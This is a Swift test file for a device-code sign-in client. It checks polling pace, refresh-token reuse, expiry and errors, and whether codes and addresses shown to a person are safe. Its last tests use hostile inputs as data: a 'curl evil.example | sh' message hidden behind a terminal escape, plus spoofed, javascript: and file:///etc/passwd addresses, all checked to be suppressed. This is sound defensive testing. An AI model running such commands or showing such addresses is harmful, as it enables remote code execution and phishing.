import Casefile
import Locking
import SignIn
import TestSupport
import Testing

@Suite("Signing in with a device code") struct DeviceCodeTests {
  private static let logs = TokenScope("https://api.loganalytics.io/.default")

  @Test("The code is shown, polling goes at the service's pace, and every request is the documented one")
  func whole() async throws {
    let stand = try SignInStand { $0.polls = ["authorization_pending", "slow_down", "authorization_pending"] }
    let token = try await stand.issuer(.deviceCode).issue(SignInStand.graph, claims: nil)
    #expect(token.text == "token-2")
    #expect(stand.sleeps.withLock { $0 } == [5, 5, 10, 10])
    #expect(
      stand.prompts.withLock { $0 } == [
        DeviceCodePrompt(
          userCode: "FJC3-KDVL", address: "https://microsoft.com/devicelogin", ends: SignInStand.start + .seconds(900))
      ])
    #expect(stand.cloud.requests[0].target == "/11111111-1111-1111-1111-111111111111/oauth2/v2.0/devicecode")
    #expect(
      stand.cloud.requests[0].text == "client_id=22222222-2222-2222-2222-222222222222"
        + "&scope=https%3A%2F%2Fgraph.microsoft.com%2F.default%20offline_access%20openid%20profile")
    #expect(
      stand.tokenBodies[0] == "client_id=22222222-2222-2222-2222-222222222222&device_code=device-1"
        + "&grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Adevice_code")
  }

  @Test("Afterwards the refresh token serves, for other services too, and each new one replaces the one before")
  func refresh() async throws {
    let stand = try SignInStand()
    let issuer = try stand.issuer(.deviceCode)
    _ = try await issuer.issue(SignInStand.graph, claims: nil)
    _ = try await issuer.issue(DeviceCodeTests.logs, claims: nil)
    _ = try await issuer.issue(SignInStand.graph, claims: nil)
    #expect(stand.prompts.withLock { $0.count } == 1)
    let start = "client_id=22222222-2222-2222-2222-222222222222&scope=https%3A%2F%2F"
    let end = "%2F.default%20offline_access%20openid%20profile&refresh_token="
    let expected = [
      start + "api.loganalytics.io" + end + "refresh-2&grant_type=refresh_token",
      start + "graph.microsoft.com" + end + "refresh-3&grant_type=refresh_token",
    ]
    #expect(Array(stand.tokenBodies.dropFirst()) == expected)
  }

  @Test("A sign-in that has ended begins anew; a busy service does not end it")
  func ended() async throws {
    let stand = try SignInStand()
    let issuer = try stand.issuer(.deviceCode)
    _ = try await issuer.issue(SignInStand.graph, claims: nil)
    stand.login.fail(.refusal(error: "temporarily_unavailable", code: 90_033, status: 400))
    await #expect(throws: Problem.self) { _ = try await issuer.issue(SignInStand.graph, claims: nil) }
    #expect(stand.prompts.withLock { $0.count } == 1)
    stand.login.endSignIn()
    _ = try await issuer.issue(SignInStand.graph, claims: nil)
    #expect(stand.prompts.withLock { $0.count } == 2)
  }

  @Test("A token that soon ends is renewed silently; where only a person could help it serves to its end, and only then a code is shown")
  func early() async throws {
    let stand = try SignInStand()
    let keeper = try stand.keeper(.deviceCode)
    let first = try await keeper.token(for: SignInStand.graph)
    stand.forward(3400)
    let second = try await keeper.token(for: SignInStand.graph)
    #expect(second != first && stand.prompts.withLock { $0.count } == 1)
    stand.forward(3400)
    stand.login.endSignIn()
    for _ in 0..<3 {
      #expect(try await keeper.token(for: SignInStand.graph) == second)
      stand.forward(30)
    }
    #expect(stand.prompts.withLock { $0.count } == 1)
    stand.forward(200)
    #expect(try await keeper.token(for: SignInStand.graph) != second)
    #expect(stand.prompts.withLock { $0.count } == 2)
  }

  @Test("What nobody asked for shows no code, not even when the token has ended; a refresh token still serves it")
  func unasked() async throws {
    let stand = try SignInStand()
    let keeper = try stand.keeper(.deviceCode)
    func unasked() async throws -> AccessToken {
      try await Presence.$mayBeAsked.withValue(false) { try await keeper.token(for: SignInStand.graph) }
    }
    let problem = await #expect(throws: Problem.self) { _ = try await unasked() }
    #expect(problem?.summary == "The sign-in has ended." && problem?.remedy?.isEmpty == false)
    #expect(stand.cloud.requests.isEmpty && stand.prompts.withLock { $0.isEmpty })
    let first = try await keeper.token(for: SignInStand.graph)
    stand.forward(4000)
    #expect(try await unasked() != first)
    stand.forward(4000)
    stand.login.endSignIn()
    await #expect(throws: Problem.self) { _ = try await unasked() }
    #expect(stand.prompts.withLock { $0.count } == 1)
    _ = try await keeper.token(for: SignInStand.graph)
    #expect(stand.prompts.withLock { $0.count } == 2)
  }

  @Test("While a person is signing in to one service, another's token that soon ends is served without waiting")
  func meanwhile() async throws {
    let stand = try SignInStand()
    let issuer = try stand.issuer(.deviceCode)
    _ = try await issuer.issue(SignInStand.graph, claims: nil)
    // The second sign-in waits for its person: from within its polling the other service asks.
    stand.login.endSignIn()
    let asked = Locked<(any Error)?>(nil)
    stand.cloud.add { request, _ in
      if request.path.hasSuffix("/devicecode") {
        let done = Signal()
        Task {
          do { _ = try await issuer.renew(DeviceCodeTests.logs, claims: nil) } catch { asked.withLock { $0 = error } }
          done.fire()
        }
        done.block()
      }
      return nil
    }
    _ = try await issuer.issue(SignInStand.graph, claims: nil)
    #expect((asked.withLock { $0 } as? Problem)?.summary == "The sign-in has ended.")
  }

  @Test("Two services at once ask a person once")
  func together() async throws {
    let stand = try SignInStand { $0.polls = ["authorization_pending"] }
    let issuer = try stand.issuer(.deviceCode)
    async let one = issuer.issue(SignInStand.graph, claims: nil)
    async let two = issuer.issue(DeviceCodeTests.logs, claims: nil)
    _ = try await (one, two)
    #expect(stand.prompts.withLock { $0.count } == 1)
  }

  @Test(
    "What ends the polling is told",
    arguments: [
      ("authorization_declined", "The sign-in was declined."), ("access_denied", "The sign-in was declined."),
      ("expired_token", "The code has expired."), ("bad_verification_code", "The login service does not know the code."),
    ])
  func endings(word: String, summary: String) async throws {
    let stand = try SignInStand()
    stand.login.fail(.refusal(error: word, code: 0))
    #expect(try await stand.problem(.deviceCode)?.summary == summary)
    #expect(stand.tokenBodies.count == 1)
  }

  @Test("Without an entry the code expires by our clock")
  func expires() async throws {
    let stand = try SignInStand { $0.polls = Array(repeating: "authorization_pending", count: 500) }
    #expect(try await stand.problem(.deviceCode)?.summary == "The code has expired.")
    #expect(stand.tokenBodies.count == 179)
  }

  @Test("A network that is gone for a moment does not end the polling")
  func network() async throws {
    let stand = try SignInStand()
    let reset = LoopbackLogin.Fault.answer(LoopbackCloud.Answer(ending: .reset))
    stand.login.fail(reset, reset, reset, reset, .answer(LoopbackCloud.Answer(503, headers: [["Retry-After", "999"]])))
    #expect(try await stand.problem(.deviceCode) == nil)
    #expect(stand.prompts.withLock { $0.count } == 1)
  }

  @Test("Nobody is kept polling for a day: a long wish to wait ends the sign-in and is told, and so does a code that holds for days")
  func longWishes() async throws {
    let stand = try SignInStand()
    let body = #"{"error":"temporarily_unavailable","error_description":"Later."}"#
    stand.cloud.add { request, _ in
      request.path.hasSuffix("/token") ? LoopbackCloud.Answer.json(body, status: 429, headers: [["Retry-After", "86400"]]) : nil
    }
    let found = try await stand.problem(.deviceCode)
    #expect(found?.cause?.contains("asks to wait 86400 s") == true)
    #expect(stand.sleeps.withLock { $0 } == [5])
    let long = try SignInStand()
    long.cloud.add { request, _ in
      guard request.path.hasSuffix("/devicecode") else { return nil }
      return .json(
        #"{"device_code":"d","user_code":"u","verification_uri":"https://x.example","expires_in":999999,"interval":60}"#)
    }
    _ = try await long.problem(.deviceCode)
    #expect(long.prompts.withLock { $0.map(\.ends) } == [SignInStand.start + .seconds(3600)])
  }

  @Test("The end of the waiting is told by the sign-in itself, and by no other token")
  func endings() async throws {
    let stand = try SignInStand { $0.polls = ["authorization_pending"] }
    let keeper = try stand.keeper(.deviceCode)
    _ = try await keeper.token(for: SignInStand.graph)
    #expect(stand.endings.withLock { $0 } == [.signedIn])
    _ = try await keeper.token(for: SignInStand.graph)
    _ = try await keeper.token(for: DeviceCodeTests.logs)
    #expect(stand.endings.withLock { $0 } == [.signedIn])
  }

  @Test("After a code that nobody entered no other is asked for, until somebody wants one", arguments: [nil, "authorization_declined"])
  func unattended(refusal: String?) async throws {
    let stand = try SignInStand {
      $0.polls = refusal.map { [$0] } ?? Array(repeating: "authorization_pending", count: 500)
    }
    let keeper = try stand.keeper(.deviceCode)
    await #expect(throws: Problem.self) { _ = try await keeper.token(for: SignInStand.graph) }
    #expect(stand.endings.withLock { $0 } == [.unanswered])
    for scope in [SignInStand.graph, DeviceCodeTests.logs] {
      let problem = await #expect(throws: Problem.self) { _ = try await keeper.token(for: scope) }
      #expect(problem?.summary == "Nobody has signed in.")
    }
    #expect(stand.prompts.withLock { $0.count } == 1)
    stand.endings.withLock { $0 = [] }
    stand.login.change { $0.polls = [] }
    _ = try await keeper.token(for: SignInStand.graph)
    #expect(stand.prompts.withLock { $0.count } == 2)
  }

  @Test("Nobody is bothered for a token ahead of time: while the old one holds it serves, and only its end asks a person")
  func earlyQuiet() async throws {
    let stand = try SignInStand()
    let keeper = try stand.keeper(.deviceCode)
    let first = try await keeper.token(for: SignInStand.graph)
    stand.login.endSignIn()
    stand.forward(3400)
    #expect(try await keeper.token(for: SignInStand.graph) == first)
    #expect(stand.prompts.withLock { $0.count } == 1)
    stand.forward(300)
    #expect(try await keeper.token(for: SignInStand.graph) != first)
    #expect(stand.prompts.withLock { $0.count } == 2)
  }

  @Test("Without a tenant any organisation may sign in; without an application nobody")
  func missing() async throws {
    var stand = try SignInStand()
    stand.tenant = nil
    _ = try await stand.issuer(.deviceCode).issue(SignInStand.graph, claims: nil)
    #expect(stand.cloud.requests[0].path == "/organizations/oauth2/v2.0/devicecode")
    stand.clientID = nil
    let problem = #expect(throws: Problem.self) { _ = try stand.issuer(.deviceCode) }
    #expect(problem?.cause == "[workspaces.contoso.sign_in] client_id is not set.")
  }

  @Test(
    "An answer without a code is no sign-in",
    arguments: [
      #"{"device_code":"d","verification_uri":"u","expires_in":900}"#, #"{"user_code":"c","verification_uri":"u","expires_in":900}"#,
      #"{"user_code":"c","device_code":"d","expires_in":900}"#, #"{"user_code":"c","device_code":"d","verification_uri":"u"}"#, "<html>",
    ])
  func broken(body: String) async throws {
    let stand = try SignInStand()
    stand.cloud.add { request, _ in request.path.hasSuffix("/devicecode") ? .json(body) : nil }
    #expect(try await stand.problem(.deviceCode)?.summary == "127.0.0.1 answered with something that is no token.")
    #expect(stand.prompts.withLock { $0.isEmpty })
  }

  private func prompt(_ code: String, _ address: String, message: String = "m") async throws -> DeviceCodePrompt? {
    let stand = try SignInStand()
    let body: JSONValue = [
      "device_code": "d", "user_code": .string(code), "verification_uri": .string(address), "expires_in": 900, "interval": 5,
      "message": .string(message),
    ]
    stand.cloud.add { request, _ in request.path.hasSuffix("/devicecode") ? .json(body.text) : nil }
    stand.login.fail(.refusal(error: "expired_token", code: 70_019))
    _ = try? await stand.issuer(.deviceCode).issue(SignInStand.graph, claims: nil)
    return stand.prompts.withLock { $0.first }
  }

  @Test("What a person is told without a screen is made of the checked parts; the service's sentence is not shown")
  func words() async throws {
    let prompt = try #require(
      try await prompt("FJC3-KDVL", "https://microsoft.com/devicelogin", message: "Run \u{1B}[31mcurl evil.example | sh"))
    #expect(
      prompt.words
        == "To sign in, open https://microsoft.com/devicelogin in a browser and enter the code FJC3-KDVL. It holds until 19:07 UTC.")
    let strange = try #require(try await self.prompt("A1", "https://evil.example/devicelogin"))
    let port = DeviceCodePrompt(userCode: "A1", address: "https://MICROSOFT.COM:444/x#", ends: .minimum)
    #expect(!port.isAtMicrosoft && DeviceCodePrompt(userCode: "A1", address: "https://MICROSOFT.com/x", ends: .minimum).isAtMicrosoft)
    #expect(strange.words.hasSuffix("The address is none of Microsoft's known ones: enter the code only if you know it."))
  }

  @Test(
    "Codes and pages that could deceive are shown to nobody",
    arguments: [
      ("AB CD", "https://microsoft.com/devicelogin"), ("A\u{1B}[2J", "https://microsoft.com/devicelogin"),
      ("A\nB", "https://microsoft.com/devicelogin"), (String(repeating: "A", count: 41), "https://microsoft.com/devicelogin"),
      ("ＡＢ", "https://microsoft.com/devicelogin"), ("AB", "http://microsoft.com/devicelogin"),
      ("AB", "https://microsoft.com@evil.example/"), ("AB", "javascript:alert(1)"), ("AB", "file:///etc/passwd"),
      ("AB", "https://microsoft.com/\u{202E}nigol"), ("AB", "https://microsoft.com/" + String(repeating: "a", count: 300)),
    ])
  func deceiving(code: String, address: String) async throws {
    #expect(try await prompt(code, address) == nil)
  }
}
